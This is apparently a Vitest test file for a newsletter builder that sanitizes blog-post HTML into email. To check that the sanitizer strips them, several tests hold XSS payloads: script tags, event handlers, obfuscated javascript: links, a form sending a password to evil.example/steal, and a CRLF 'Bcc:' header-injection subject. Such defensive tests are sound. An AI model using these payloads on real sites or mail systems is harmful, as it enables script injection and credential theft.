import { beforeAll, describe, expect, it } from "vitest";
import {
  buildNewsletter,
  type NewsletterContent,
  oneLine,
  personalize,
  UNSUBSCRIBE_PLACEHOLDER,
} from "./newsletter-message.server.ts";

const SITE = "https://studio.example.com";

const SOURCE = {
  post: {
    title: "Skyblock <Ruins> & more",
    slug: "skyblock-ruins",
    excerpt: "A floating world of ruins.",
    content: '<p>New <a href="/studio">world</a> with <img src="/uploads/a.png" alt="A"></p>',
    featuredImage: "cover.png",
    featuredImageAlt: "The cover",
  },
  companyName: "Override Studios",
  siteUrl: SITE,
};

function built(content: string, overrides: Partial<typeof SOURCE.post> = {}) {
  return buildNewsletter({ ...SOURCE, post: { ...SOURCE.post, content, ...overrides } });
}

/** The opening tags of one element name in the HTML. */
function tags(html: string, name: string): string[] {
  return html.match(new RegExp(`<${name}\\b[^>]*>`, "gi")) ?? [];
}

describe("buildNewsletter", () => {
  let newsletter: NewsletterContent;
  beforeAll(async () => {
    newsletter = await buildNewsletter(SOURCE);
  });

  it("makes links and images absolute, escapes the title and inlines the styles", () => {
    expect(newsletter.subject).toBe("Skyblock <Ruins> & more");
    expect(newsletter.html).toContain("<h1 style=");
    expect(newsletter.html).toContain("Skyblock &lt;Ruins&gt; &amp; more");
    expect(newsletter.html).toContain(`href="${SITE}/studio"`);
    expect(newsletter.html).toContain(`src="${SITE}/uploads/a.png"`);
    expect(newsletter.html).toContain(`href="${SITE}/blog/skyblock-ruins"`);
    expect(newsletter.text).toContain(`Read on the site [${SITE}/blog/skyblock-ruins]`);
  });

  it("shows the featured image across the column with its alt text, and the company's name", () => {
    const [hero] = tags(newsletter.html, "img");
    expect(hero).toContain(`src="${SITE}/uploads/cover.png"`);
    expect(hero).toContain('alt="The cover"');
    expect(hero).toContain('width="600"');
    expect(hero).toMatch(/style="[^"]*max-width: 600px/);
    expect(newsletter.html).toContain(">Override Studios<");
    expect(newsletter.text).toContain("Override Studios");
  });

  it("inlines every style: no <style> rule is left but the small-screen and dark-mode ones", () => {
    const styleBlocks = newsletter.html.match(/<style>[\s\S]*?<\/style>/g) ?? [];
    expect(styleBlocks).toHaveLength(2);
    expect(styleBlocks[0]).toMatch(/^<style>\s*@media \(max-width:620px\)/);
    expect(styleBlocks[1]).toMatch(
      /^<style>\s*:root\{color-scheme:light dark;[^}]*\}\s*@media \(prefers-color-scheme:dark\)\{[^{}]*\{/,
    );
    expect(newsletter.html).toContain('<meta name="color-scheme" content="light dark">');
    expect(newsletter.html).toMatch(/<body style="[^"]*background-color: #f4f4f5/);
    expect(newsletter.html).toMatch(/<table[^>]*class="column"[^>]*max-width: 600px/);
    for (const paragraph of tags(newsletter.html, "p")) expect(paragraph).toContain("style=");
  });

  it("has a text part that reads as text: words, then each link's address", () => {
    expect(newsletter.text).not.toMatch(/<(p|a|img|table|td|h1|br)\b/i);
    expect(newsletter.text).toContain("Skyblock <Ruins> & more");
    expect(newsletter.text).toContain(`world [${SITE}/studio]`);
    expect(newsletter.text).toContain(`Unsubscribe [${UNSUBSCRIBE_PLACEHOLDER}]`);
    expect(newsletter.text).not.toContain("A floating world of ruins.");
  });

  it("puts each subscriber's own unsubscribe link in both parts", () => {
    const url = `${SITE}/unsubscribe/abc.def`;
    const mine = personalize(newsletter, url);
    expect(mine.html).toContain(`href="${url}"`);
    expect(mine.text).toContain(url);
    expect(mine.html).not.toContain(UNSUBSCRIBE_PLACEHOLDER);
    expect(mine.text).not.toContain(UNSUBSCRIBE_PLACEHOLDER);
  });

  it("puts a reader's link only where the template does, whatever the post names", async () => {
    const named = await built(
      `<p>${UNSUBSCRIBE_PLACEHOLDER} and %${UNSUBSCRIBE_PLACEHOLDER}UNSUBSCRIBE_URL%%</p><p><img src="https://elsewhere.example/p.png?u=${UNSUBSCRIBE_PLACEHOLDER}" alt=""></p>`,
      { title: `Title ${UNSUBSCRIBE_PLACEHOLDER}`, excerpt: UNSUBSCRIBE_PLACEHOLDER },
    );
    expect(named.html.split(UNSUBSCRIBE_PLACEHOLDER)).toHaveLength(2);
    expect(named.text.split(UNSUBSCRIBE_PLACEHOLDER)).toHaveLength(2);
    expect(named.subject).toBe(`Title ${UNSUBSCRIBE_PLACEHOLDER}`);
    const url = `${SITE}/unsubscribe/abc.def`;
    const mine = personalize(named, url);
    expect(mine.html.split(url)).toHaveLength(2);
    expect(mine.text.split(url)).toHaveLength(2);
    // The post's own words and addresses read as written.
    expect(mine.html).toContain(`src="https://elsewhere.example/p.png?u=&#37;%UNSUBSCRIBE_URL%%"`);
    expect(mine.text).toContain("%\u200b%UNSUBSCRIBE_URL%% and");
  });

  it("removes scripts, event handlers, styles, forms and frames from other hosts", async () => {
    const hostile = await built(
      [
        "<script>alert('script')</script>",
        '<p onclick="alert(1)" style="color:red" class="evil">kept text</p>',
        '<img src="/uploads/x.png" onerror="alert(2)" alt="x">',
        "<style>body{display:none}</style>",
        '<iframe src="https://evil.example/frame">frame words</iframe>',
        '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>',
        '<svg><a href="javascript:alert(3)">svg</a></svg>',
        '<object data="https://evil.example/x.swf"></object>',
      ].join(""),
    );
    expect(hostile.html).not.toMatch(/<script|<iframe|<form|<input|<button|<svg|<object/i);
    expect(hostile.html).not.toMatch(/onclick|onerror|alert\(/i);
    expect(hostile.html).not.toContain("evil");
    expect(hostile.html).not.toContain("display:none");
    expect(hostile.html).not.toContain("frame words");
    expect(hostile.html).toContain("kept text");
    expect(hostile.html).not.toContain("color:red");
  });

  it("keeps only http(s) and mailto links, made absolute; javascript:, data: and // go", async () => {
    const links = await built(
      [
        '<a href="javascript:alert(1)">js</a>',
        '<a href="JaVaScRiPt&colon;alert(1)">js2</a>',
        '<a href=" java\tscript:alert(1)">js3</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD4=">data</a>',
        '<a href="//evil.example/x">protocol-relative</a>',
        '<a href="/\\evil.example/x">backslash</a>',
        '<a href="vbscript:x">vb</a>',
        '<a href="/news?tag=x">relative</a>',
        '<a href="#top">fragment</a>',
        '<a href="mailto:hi@studio.example.com">mail</a>',
        '<a href="https://marketplace.example/item">away</a>',
        '<img src="data:image/png;base64,AAAA" alt="inline">',
        '<img src="//evil.example/pixel.png" alt="pixel">',
      ].join(" "),
    );
    const hrefs = tags(personalize(links, `${SITE}/unsubscribe/x`).html, "a").map(
      (tag) => /href="([^"]*)"/.exec(tag)?.[1],
    );
    for (const href of hrefs) expect(href).toMatch(/^(https?:\/\/|mailto:)/);
    expect(links.html).not.toMatch(/javascript|vbscript|data:|evil\.example/i);
    expect(links.html).toContain(`href="${SITE}/news?tag=x"`);
    expect(links.html).toContain(`href="${SITE}/#top"`);
    expect(links.html).toContain('href="mailto:hi@studio.example.com"');
    expect(links.html).toContain('href="https://marketplace.example/item"');
    expect(links.html).toContain("protocol-relative");
  });

  it("turns a YouTube frame into the video's picture linked to it, with a 'Watch the video' link", async () => {
    const video = await built(
      '<div data-youtube-video=""><iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" width="640" height="480"></iframe></div>',
    );
    const watch = "https://www.youtube.com/watch?v=dQw4w9WgXcQ";
    expect(video.html).not.toMatch(/<iframe|<div data-youtube/);
    expect(video.html).toContain('src="https://i.ytimg.com/vi/dQw4w9WgXcQ/hqdefault.jpg"');
    expect(video.html).toMatch(new RegExp(`<a[^>]*href="${watch.replace(/[?.]/g, "\\$&")}"`));
    expect(video.html).toContain(">Watch the video</a>");
    expect(video.text).toContain(`Watch the video [${watch}]`);
  });

  it("an author cannot forge the video picture with the mark it uses inside", async () => {
    const forged = await built(
      '<a href="https://evil.example/" data-mail-video="dQw4w9WgXcQ">Watch the video</a>',
    );
    expect(forged.html).not.toContain("ytimg");
    expect(forged.html).not.toContain("data-mail-video");
  });

  it("fits content images to the column, keeping their proportions", async () => {
    const wide = await built('<img src="/uploads/wide.png" alt="Wide" width="1200" height="600">');
    const image = tags(wide.html, "img").find((tag) => tag.includes("wide.png"));
    expect(image).toContain('width="552"');
    expect(image).toContain('height="276"');
    expect(image).toContain('alt="Wide"');
  });

  it("makes a title with line breaks one line, so the mail can be sent", async () => {
    const broken = await built("<p>x</p>", {
      title: "Big news\r\nBcc: everyone@example.com\u2028\u0085 today\t!",
    });
    expect(broken.subject).toBe("Big news Bcc: everyone@example.com today !");
    expect(broken.subject).not.toMatch(/[\r\n\u2028\u2029\u0085]/);
    expect(broken.html).toContain("<title>Big news Bcc: everyone@example.com today !</title>");
  });

  it("gives an empty title a subject still", async () => {
    expect((await built("<p>x</p>", { title: " \r\n " })).subject).toBe(
      "News from Override Studios",
    );
  });

  it("adds the marketplace link and the tagline when they are given", async () => {
    const item = await buildNewsletter({
      ...SOURCE,
      tagline: "Marketplace creators",
      post: { ...SOURCE.post, marketplaceUrl: "https://marketplace.example/item/1" },
    });
    expect(item.html).toContain('href="https://marketplace.example/item/1"');
    expect(item.text).toContain("See it on the Marketplace [https://marketplace.example/item/1]");
    expect(item.html).toContain("Marketplace creators");
  });

  it("escapes the company's name and the alt text", async () => {
    const named = await buildNewsletter({
      ...SOURCE,
      companyName: 'Studio <b onmouseover="x">',
      post: { ...SOURCE.post, featuredImageAlt: '"><script>alert(1)</script>' },
    });
    expect(named.html).not.toMatch(/<script|<b onmouseover/);
    expect(named.html).toContain("Studio &lt;b onmouseover=");
  });
});

describe("oneLine", () => {
  it("folds every kind of line break and control character", () => {
    expect(oneLine("a\r\nb\rc\nd\u2028e\u2029f\u0085g\u0000h\u000bi")).toBe("a b c d e f gh i");
  });
});
